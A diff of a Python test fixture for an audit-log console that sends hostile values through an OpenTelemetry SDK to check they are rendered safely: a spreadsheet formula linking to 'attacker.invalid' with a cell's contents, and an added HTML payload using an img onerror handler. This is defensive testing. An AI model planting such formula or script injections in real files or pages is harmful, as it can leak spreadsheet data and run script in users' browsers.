@@ -48,6 +48,7 @@ TOKEN = "oat_console-browser-test-token-0123456789"
 SUBJECT = "auditor-anna"
 STATS_TOKEN = "oat_console-stats-only-token-0123456789"
 FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
+MARKUP = '<img src=x onerror="window.pwned=1"><b id=injected>bold</b>'
 
 
 @dataclass
@@ -94,8 +95,9 @@ console:
     return path
 
 
-def _send_formula_event(grpc: str) -> str:
-    """One event whose resource id is a spreadsheet formula, through the real SDK."""
+def _send_hostile_events(grpc: str) -> str:
+    """Events whose values are a spreadsheet formula (resource id) and HTML (actor name,
+    reason), through the real SDK; the formula event's id."""
     from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter
 
     from otel_audit import AuditLogger, _logs_compat
@@ -112,6 +114,8 @@ def _send_formula_event(grpc: str) -> str:
         actor_type="user",
         resource_type="invoice",
         resource_id=FORMULA,
+        actor_name=MARKUP,
+        reason=MARKUP,
     )
     provider.force_flush()
     provider.shutdown()
@@ -174,7 +178,7 @@ def console(es_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[C
     try:
         grpc = f"127.0.0.1:{ports['grpc']}"
         report = send_traffic(grpc, checkouts=12, with_violations=False)
-        formula_id = _send_formula_event(grpc)
+        formula_id = _send_hostile_events(grpc)
         _wait_sealed(es, [*report.event_ids, formula_id])
         yield Console(
             base=f"http://127.0.0.1:{ports['query']}",
